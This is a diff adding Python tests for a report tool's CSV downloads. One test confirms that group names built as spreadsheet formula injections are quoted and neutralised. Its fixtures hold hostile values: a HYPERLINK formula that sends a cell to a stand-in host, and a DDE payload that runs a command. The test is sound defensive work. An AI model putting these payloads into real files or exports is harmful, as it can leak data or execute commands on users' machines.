@@ -173,6 +173,36 @@ def test_the_files_hold_the_figures(page: EquityPage, result: EquityResult) -> N
         assert urllib.parse.unquote(link) == frame.write_csv()
 
 
+def test_no_name_of_a_group_is_a_formula_in_the_files(tmp_path: Path) -> None:
+    names = {
+        "group A": '=HYPERLINK("http://x/"&A1,"y")', "group B": "+1+cmd|' /C calc'!A0",
+        "group C": "@a\r=1+1", "group D": "\t-2",
+    }  # fmt: skip
+    odd = synthetic_measurement().searches.with_columns(pl.col("group").replace(names))
+    shown = equity_page(of(tmp_path, odd), threshold=0.6).download()._repr_html_()
+    links = re.findall(r'href="data:text/csv;charset=utf-8,([^"]*)"', shown)
+    assert len(links) == 2
+    found = set()
+    for link in links:
+        text = urllib.parse.unquote(link)
+        assert "\r" not in text
+        frame = pl.read_csv(text.encode(), infer_schema=False)
+        found |= set(frame["group"].drop_nulls())
+        cells = [one for row in frame.iter_rows() for one in row if one]
+        numbers = [one for one in cells if re.fullmatch(r"-?[\d.]+(e-?\d+)?", one)]
+        assert len(numbers) > len(frame), "and figures stay figures"
+        assert not any(one[0] in "=+-@\t" for one in set(cells) - set(numbers))
+    assert found == {"'" + name.replace("\r", " ") for name in names.values()}
+
+
+def test_what_suppression_is_for_and_a_lower_limit_are_on_the_page() -> None:
+    usual = equity_page().summary()._repr_html_()
+    assert "It is no secrecy" in usual
+    assert "lowered" not in usual
+    lower = equity_page(smallest_people=5).summary()._repr_html_()
+    assert "The limit was lowered for this: by default it is 30 people." in lower
+
+
 @pytest.mark.parametrize(
     ("changes", "said"),
     [
